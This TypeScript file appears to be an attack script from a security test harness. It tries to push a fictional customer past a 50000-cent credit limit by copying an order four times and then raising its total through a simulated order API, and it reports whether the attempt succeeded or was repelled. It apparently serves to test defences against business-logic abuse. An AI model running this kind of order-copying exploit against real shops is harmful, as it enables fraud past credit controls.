import type { Attack, AttackProgress } from '../../../runtime/attack/attack.ts';

/** Hopper Ltd. has a limit of 50000 cents and 20000 open: it tries the front door, then the others. */
const attack: Attack = async function* (send) {
  let requests = 0;
  const progress = (step: string): AttackProgress => ({ requests, stolen: '', length: 0, step });
  const ask = async (method: string, path: string, body?: object) => {
    requests += 1;
    if (body === undefined) return send({ method, path });
    const headers = { 'content-type': 'application/json' };
    return send({ method, path, headers, body: JSON.stringify(body) });
  };
  const openCents = async () =>
    Number(/"open_cents":(\d+)/.exec((await ask('GET', '/api/customers/2')).body)?.[1]);

  const front = await ask('POST', '/api/customers/2/orders', { totalCents: 40_000 });
  yield progress(`A new order of 40000 cents was answered ${front.status}`);
  for (let copy = 1; copy <= 4; copy += 1) {
    const { status } = await ask('POST', '/api/orders/4/copies');
    yield progress(`Copy ${copy} of the order of 20000 cents was answered ${status}`);
  }
  const { status } = await ask('PATCH', '/api/orders/4', { totalCents: 50_000 });
  yield progress(`Raising that order to 50000 cents was answered ${status}`);

  const open = await openCents();
  if (open > 50_000)
    return { ...progress(`The limit is 50000 cents, and ${open} are open`), outcome: 'succeeded' };
  return { ...progress(`The limit is 50000 cents, and ${open} are open`), outcome: 'repelled' };
};

export default attack;
